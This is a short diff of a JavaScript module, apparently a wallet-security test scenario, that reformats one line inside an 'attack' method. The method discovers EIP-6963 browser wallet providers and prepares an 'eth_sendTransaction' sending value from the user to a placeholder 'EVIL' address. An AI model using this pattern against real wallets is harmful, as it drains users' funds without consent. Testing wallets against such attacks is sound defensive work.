@@ -10,7 +10,9 @@ export default {
 
   async attack(a) {
     const found = new Map();
-    window.addEventListener('eip6963:announceProvider', (event) => found.set(event.detail.info.uuid, event.detail.provider));
+    window.addEventListener('eip6963:announceProvider', (event) =>
+      found.set(event.detail.info.uuid, event.detail.provider),
+    );
     window.dispatchEvent(new Event('eip6963:requestProvider'));
     await new Promise((resolve) => setTimeout(resolve, 100));
     const call = { method: 'eth_sendTransaction', params: [{ from: a.USER, to: a.EVIL, value: '0x5' }] };
